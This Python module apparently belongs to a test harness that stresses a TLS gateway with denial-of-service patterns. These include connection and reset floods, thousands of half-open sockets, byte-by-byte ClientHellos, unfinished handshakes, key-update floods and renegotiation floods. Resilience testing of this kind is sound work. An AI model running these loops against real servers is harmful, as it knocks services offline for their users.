"""Attacks before a handshake is done: connections, resets, silence, handshakes that lead nowhere, and too many that do."""
import collections
import os
import select
import time

from network import RawTLS, client_hello, plain_socket, reset, tls

# More than the gateway lets be in their handshake at once, so that it has to choose.
SILENT_CONNECTIONS = 12_000
DRIBBLING_CONNECTIONS = 500
DRIBBLE_PAUSE_S = 0.02


def connects(target, tally):
    """Connects and goes, in good order."""
    while True:
        plain_socket(target.port).close()
        tally.count()


def resets(target, tally):
    """Connects, says the first bytes of a handshake, and resets."""
    while True:
        link = plain_socket(target.port)
        link.send(b"\x16\x03\x01\x02\x00")
        reset(link)
        tally.count()


def half_open(target, tally):
    """Connects and says nothing, thousands of times; whoever is cut is replaced."""
    held = collections.deque()
    while True:
        try:
            held.append(plain_socket(target.port))
            tally.count()
        except OSError:
            time.sleep(0.01)
        if len(held) > SILENT_CONNECTIONS:
            held.popleft().close()


def first_flights(target, tally):
    """Sends a whole ClientHello, which costs the gateway a signature, and is gone."""
    hello = client_hello(target.context())
    while True:
        link = plain_socket(target.port)
        link.send(hello)
        reset(link)
        tally.count()


def unanswered_flights(target, tally):
    """Sends a whole ClientHello and waits for ever without going on."""
    hello = client_hello(target.context())
    held = collections.deque()
    while True:
        try:
            link = plain_socket(target.port)
            link.send(hello)
            held.append(link)
            tally.count()
        except OSError:
            time.sleep(0.01)
        if len(held) > SILENT_CONNECTIONS:
            held.popleft().close()


def dribbled_hellos(target, tally):
    """Sends ClientHellos byte by byte on many connections at once."""
    hello = client_hello(target.context())
    crowd = []
    while True:
        while len(crowd) < DRIBBLING_CONNECTIONS:
            crowd.append([plain_socket(target.port), 0])
        for entry in crowd[:]:
            try:
                entry[0].send(hello[entry[1]:entry[1] + 1])
                entry[1] += 1
                tally.count()
            except OSError:
                entry[1] = len(hello)
            # The last byte never comes.
            if entry[1] >= len(hello) - 1:
                entry[0].close()
                crowd.remove(entry)
        time.sleep(DRIBBLE_PAUSE_S)


def handshakes(target, tally):
    """Whole handshakes without a certificate, and gone."""
    context = target.context()
    while True:
        try:
            reset(tls(context, target.port))
            tally.count()
        except OSError:
            pass


def resumptions(target, tally):
    """Handshakes that resume a session, and are gone."""
    context = target.context()
    session = None
    while True:
        try:
            with context.wrap_socket(
                    plain_socket(target.port), server_hostname="localhost", session=session) as link:
                if link.session_reused:
                    tally.count()
                # The ticket comes before or behind the first answer. Who is not given one at once uses the last one again.
                link.send(b"PING p\n")
                link.recv(65536)
                if link.session.has_ticket:
                    session = link.session
        except OSError:
            session = None


def foreign_certificates(target, tally):
    """Handshakes with a certificate of the attacker's own authority."""
    context = target.context()
    context.load_cert_chain(target.foreign_certificate, target.foreign_key)
    while True:
        try:
            link = tls(context, target.port)
            link.recv(1)
        except OSError:
            tally.count()


def garbage(target, tally):
    """Random bytes instead of TLS."""
    while True:
        link = plain_socket(target.port)
        try:
            link.send(os.urandom(512))
            link.close()
        except OSError:
            pass
        tally.count()


def key_updates(target, tally):
    """Asks for new keys without end, on eight connections at once, and takes the answers."""
    links = []
    poll = select.poll()
    while True:
        while len(links) < 8:
            link = RawTLS(target.port)
            links.append(link)
            poll.register(link.socket, select.POLLIN)
        for link in links[:]:
            for _ in range(64):
                if not link.update_key():
                    break
                tally.count()
            link.read()
        for descriptor, events in poll.poll(5):
            if events & (select.POLLHUP | select.POLLERR | select.POLLRDHUP):
                drop(links, poll, descriptor)


def deaf_key_updates(target, tally):
    """The same without ever taking an answer, so that the gateway cannot send its own."""
    links = []
    poll = select.poll()
    while True:
        while len(links) < 8:
            link = RawTLS(target.port, receive_bytes=4096)
            links.append(link)
            poll.register(link.socket, select.POLLRDHUP)
        for link in links:
            for _ in range(64):
                if not link.update_key():
                    break
                tally.count()
        for descriptor, _ in poll.poll(5):
            drop(links, poll, descriptor)


def drop(links, poll, descriptor):
    link = next(link for link in links if link.socket.fileno() == descriptor)
    poll.unregister(link.socket)
    links.remove(link)
    link.close()


def renegotiations(target, tally):
    """Asks for another handshake within TLS 1.2, again and again."""
    while True:
        try:
            link = RawTLS(target.port, tls12=True)
        except OSError:
            continue
        for _ in range(16):
            link.renegotiate()
            tally.count()
            link.read()
        link.close()

